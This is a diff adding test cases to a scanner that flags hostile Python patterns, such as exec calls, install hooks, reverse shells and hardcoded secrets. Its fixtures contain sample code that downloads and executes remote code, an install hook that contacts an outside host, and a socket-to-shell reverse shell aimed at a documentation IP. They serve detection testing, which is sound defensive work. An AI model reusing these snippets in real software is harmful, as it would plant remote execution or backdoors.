@@ -141,3 +141,30 @@ def test_reduced_scan_when_libcst_cannot_parse(pack: RuleSet) -> None:
     result = scan(pack, code, path="setup.py")
     rules = {(f.rule, f.location.line) for f in result.findings if f.fallback}
     assert {("DS101", 3), ("DS104", 4), ("DS105", 4)} <= rules
+
+
+@pytest.mark.parametrize("code,path,rule,expected", [
+    # `python -c CODE` is judged like exec(CODE): its payload is scanned.
+    (("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
+      "\"import requests; exec(requests.get('https://example.com/s').text)\"])\n"), "mod.py", "DS101",
+     [Severity.CRITICAL]),
+    ("import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'print(1)'])\n", "mod.py", "DS101", []),
+    # A helper the hook (or the import) calls carries the hook's severity; one nobody calls is quiet.
+    (("import urllib.request\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
+      "def ping():\n    urllib.request.urlopen('https://example.com/p')\n"
+      "class I(install):\n    def run(self):\n        ping()\n"
+      "setup(name='x', cmdclass={'install': I})\n"), "setup.py", "DS105", [Severity.HIGH]),
+    ("import urllib.request\ndef ping():\n    urllib.request.urlopen('https://example.com/p')\n",
+     "pkg/__init__.py", "DS105", []),
+    # The connection and the shell in different functions.
+    (("import socket, subprocess\ndef conn():\n    s = socket.socket()\n    s.connect(('203.0.113.7', 4444))\n"
+      "    return s\ndef run(s):\n    subprocess.run(s.recv(99).decode(), shell=True)\nrun(conn())\n"),
+     "mod.py", "DS102", [Severity.CRITICAL]),
+    ("import subprocess\ndef run(pipe):\n    subprocess.run(pipe.recv(), shell=True)\n", "mod.py", "DS102", []),
+    # A setting compared with a state word is configuration; a secret-named value is not.
+    ("def has_auth(cfg):\n    return cfg['authorization'] == 'enabled'\n", "mod.py", "DS108", []),
+    ("def check_token(token):\n    return token == 'tk-7f1e2d3c4b5a'\n", "mod.py", "DS108", [Severity.HIGH]),
+])
+def test_split_and_indirect_patterns(pack: RuleSet, code: str, path: str, rule: str,
+                                     expected: list[Severity]) -> None:
+    assert severities(pack, code, rule, path) == expected
